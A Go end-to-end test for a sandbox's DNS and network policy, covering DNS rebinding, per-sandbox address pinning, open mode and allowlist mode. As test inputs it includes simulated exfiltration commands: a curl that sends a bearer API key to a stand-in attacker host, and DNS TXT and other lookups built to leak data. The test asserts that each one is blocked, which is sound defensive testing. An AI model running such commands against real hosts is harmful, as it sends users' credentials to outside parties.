//go:build linux

package e2e

import (
	"net/netip"
	"strings"
	"testing"
)

// TestDNSPolicy checks the resolver as the source of truth for where a
// sandbox may connect: rebinding answers are dropped, pins are per
// sandbox, open mode resolves any public name but keeps credentials on
// their domains, and non-address types for unlisted names never leave.
func TestDNSPolicy(t *testing.T) {
	w, a, key := credentialedAgent(t)

	t.Run("public name resolving to loopback is dropped", func(t *testing.T) {
		name := "rebind." + w.Zone
		w.SetRecord(name, netip.MustParseAddr("127.0.0.1"))
		out, _, code := a.run([]string{"--allow", name}, "dig +short +tries=1 +time=3 "+name+" A")
		if code != 0 || strings.TrimSpace(out) != "" {
			t.Fatalf("dig %s: exit %d, %q; want no address", name, code, out)
		}
		// A mixed answer keeps only what may be reached. (Another name:
		// the first answer is cached for its TTL.)
		mixed := "mixed." + w.Zone
		w.SetRecord(mixed, netip.MustParseAddr("169.254.169.254"), w.Other)
		out, _, _ = a.run([]string{"--allow", mixed}, "dig +short +tries=1 +time=3 "+mixed+" A")
		if strings.TrimSpace(out) != w.Other.String() {
			t.Fatalf("dig %s: %q; want only the public address %s", mixed, out, w.Other)
		}
	})

	t.Run("one sandbox's lookups do not let another connect", func(t *testing.T) {
		// A resolves the API; B may reach it too, but never looked it up:
		// B dialling the address A was given, with A's SNI, is refused.
		sbA := strings.TrimSpace(a.mustKG("", "sandbox", "create", "--vault", "v"))
		if out, _, _ := a.kg("", "sandbox", "exec", sbA, "--", "dig", "+short", w.APIHost()); strings.TrimSpace(out) != w.API.String() {
			t.Fatalf("A's lookup: %q", out)
		}
		before := len(w.Requests(w.APIHost()))
		out, _, _ := a.run([]string{"--vault", "v"}, `curl -sS -m 10 -w '\n%{http_code}' --resolve `+w.APIHost()+`:443:`+w.API.String()+
			` https://`+w.APIHost()+`/b -H "Authorization: Bearer $API_KEY"`)
		if !strings.HasSuffix(out, "\n403") || !strings.Contains(out, "destination_not_pinned") {
			t.Fatalf("B with A's pin: %q, want 403 destination_not_pinned", out)
		}
		if n := len(w.Requests(w.APIHost())) - before; n != 0 {
			t.Fatalf("the API received %d requests from B", n)
		}
		a.mustKG("", "sandbox", "rm", sbA)
	})

	t.Run("open mode", func(t *testing.T) {
		script := `dig +short +tries=1 +time=3 ` + w.OtherHost() + `; ` +
			`curl -sS -m 10 -o /dev/null -w '%{http_code}\n' https://` + w.OtherHost() + `/open; ` +
			`curl -sS -m 10 -w '\n%{http_code}\n' https://` + w.AttackerHost() + `/open -H "Authorization: Bearer $API_KEY"; ` +
			`dig +short +tries=1 +time=3 TXT leak.` + w.AttackerHost() + `; echo TXT-DONE`
		out, errOut, code := a.run([]string{"--vault", "v", "--mode", "open"}, script)
		if code != 0 {
			t.Fatalf("exit %d: %s", code, errOut)
		}
		lines := strings.Split(out, "\n")
		if lines[0] != w.Other.String() || lines[1] != "200" {
			t.Fatalf("open mode lookup and request: %q", out)
		}
		if !strings.Contains(out, "placeholder_unapproved_host") {
			t.Fatalf("open mode sent the placeholder to the attacker: %q", out)
		}
		for _, q := range w.DNSQueries() {
			if strings.HasPrefix(q.Name, "leak.") {
				t.Fatalf("a TXT query for an unlisted name was forwarded: %+v", q)
			}
		}
		if attackerSaw(w, key) {
			t.Fatal("the attacker received the secret")
		}
	})

	t.Run("allowlist mode never forwards unlisted names, any type", func(t *testing.T) {
		for _, typ := range []string{"A", "AAAA", "TXT", "MX", "ANY", "NULL"} {
			name := strings.ToLower(typ) + "-exfil." + w.Zone
			out, _, _ := a.run(nil, "dig +tries=1 +time=3 "+name+" "+typ+" | grep -c NXDOMAIN")
			if strings.TrimSpace(out) != "1" {
				t.Errorf("%s %s: not NXDOMAIN (%q)", typ, name, out)
			}
		}
		for _, q := range w.DNSQueries() {
			if strings.Contains(q.Name, "-exfil.") {
				t.Fatalf("the world's DNS saw %s %s", q.Type, q.Name)
			}
		}
	})
}
